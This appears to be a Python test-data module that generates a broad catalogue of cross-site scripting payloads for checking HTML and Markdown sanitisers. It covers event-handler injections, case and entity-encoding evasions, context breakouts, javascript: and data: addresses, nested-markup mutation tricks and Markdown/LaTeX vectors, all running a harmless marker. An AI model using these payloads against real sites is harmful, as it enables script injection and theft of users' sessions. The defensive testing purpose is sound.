"""Texts that would run code in a page that takes them for HTML: by tag, by handler, by address, by markup."""

from __future__ import annotations

CODE = "window.hacked=1"
HANDLERS = {
    "img src=x": ("onerror", "onload", "onmouseover"),
    "svg": ("onload", "onfocus"),
    "body": ("onload", "onpageshow", "onresize"),
    "input autofocus": ("onfocus", "oninput", "onblur"),
    "video src=x": ("onerror", "oncanplay", "onloadstart"),
    "audio src=x": ("onerror", "onloadstart"),
    "details open": ("ontoggle",),
    "marquee": ("onstart", "onfinish"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "div style=animation:x": ("onanimationstart", "ontransitionend", "onclick"),
    "iframe": ("onload",),
    "object data=x": ("onerror", "onload"),
    "embed src=x": ("onload",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload",),
    "form": ("onsubmit", "onformdata"),
    "button": ("onclick", "onpointerdown"),
    "a href=#": ("onclick", "onauxclick"),
    "math": ("onclick",),
    "keygen autofocus": ("onfocus",),
    "track src=x": ("onerror",),
}
BY_HANDLER = [f"<{tag} {name}={CODE}>x" for tag, names in HANDLERS.items() for name in names]
BY_SPELLING = [
    form.format(CODE)
    for form in (
        "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>", "<img src=x onerror\n=\n{}>", '<img src="x" onerror="{}"', "<<img src=x onerror={}>",
        "<img src=x:alert(1) onerror=eval(alt) alt={}>", "<svg/onload={}//", "<svg><g onload={}></g></svg>", "<img src=`x` onerror={}>",
        "<img src=x onerror=&#119;indow.hacked=1>", "<img\x0bsrc=x\x0bonerror={}>", '"><img src=x onerror={}>', "'><svg onload={}>", "--><img src=x onerror={}>",
        "]]><svg onload={}>", "</textarea><svg onload={}>", "</title><svg onload={}>", "</style><svg onload={}>", "</script><svg onload={}>",
    )
]  # fmt: skip
BY_SCRIPT = [
    form.format(CODE)
    for form in (
        "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=data:text/javascript,{}></script>", "<scr<script>ipt>{}</script>", "<svg><script>{}</script></svg>",
        "<math><script>{}</script></math>", "<script type=module>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<template><script>{}</script></template>",
        "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src='javascript:parent.{}'></iframe>", "<object data='javascript:{}'></object>",
        "<embed src='javascript:{}'>", "<base href='javascript:{}//'>", "<meta http-equiv=refresh content='0;javascript:{}'>", "<form action='javascript:{}'><button>x</button></form>",
        "<button formaction='javascript:{}'>x</button>", "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></use></svg>",
        "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>", "<svg><animate attributeName=href values='javascript:{}'></animate></svg>", "<math><mi xlink:href='javascript:{}'>x</mi></math>",
        "<style>@import 'javascript:{}';</style>", "<div style='background:url(javascript:{})'>x</div>", "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}></form>", "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    )
]  # fmt: skip
ADDRESSES = [
    form.format(CODE)
    for form in (
        "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", "javascript&colon;{}", "&#106;avascript:{}",
        "&#x6A;avascript:{}", "javascript:/*--></title>*/{}", "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "javascript://%0a{}",
    )
]  # fmt: skip
BY_ADDRESS = [f"<a href='{each}'>x</a>" for each in ADDRESSES] + [f"[x]({each})" for each in ADDRESSES]
BY_MARKUP = [
    form.format(CODE)
    for form in (
        '![x](x"onerror={})', "[x]: javascript:{}\n[x]", "<javascript:{}>", ":red[<img src=x onerror={}>]", ":material/<img src=x onerror={}>:", "$\\href{{javascript:{}}}{{x}}$",
        "$\\htmlData{{x={}}}{{y}}$", '```"><img src=x onerror={}>\nx\n```', "`<img src=x onerror={}>`", "| <img src=x onerror={}> |\n|-|\n| x |", "# <img src=x onerror={}>", "- [ ] <svg onload={}>",
    )
]  # fmt: skip
ATTACKS = [*BY_HANDLER, *BY_SPELLING, *BY_SCRIPT, *BY_ADDRESS, *BY_MARKUP]
